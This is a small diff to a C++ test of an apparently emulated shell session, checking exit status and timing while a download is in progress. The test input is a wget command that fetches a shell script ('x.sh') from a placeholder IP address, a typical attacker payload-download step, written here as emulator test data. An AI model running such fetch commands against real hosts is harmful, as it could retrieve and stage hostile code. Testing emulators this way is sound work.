@@ -146,7 +146,7 @@ TEST(ExecMode, ExitStatusAndDownloadsWaitForThePause) {
   ShellSession s(Distro("debian"), false);
   s.shell->Exec("wget http://198.51.100.5/x.sh; exit 5");
   EXPECT_FALSE(s.term.exited);  // "Connecting to ..." is still on the wire
-  EXPECT_NE(s.conn.timer_ms, 0u);
+  EXPECT_EQ(s.term.screen.find("failed"), std::string::npos);
   s.Settle();
   EXPECT_TRUE(s.term.exited);
   EXPECT_EQ(s.term.exit_status, 5);
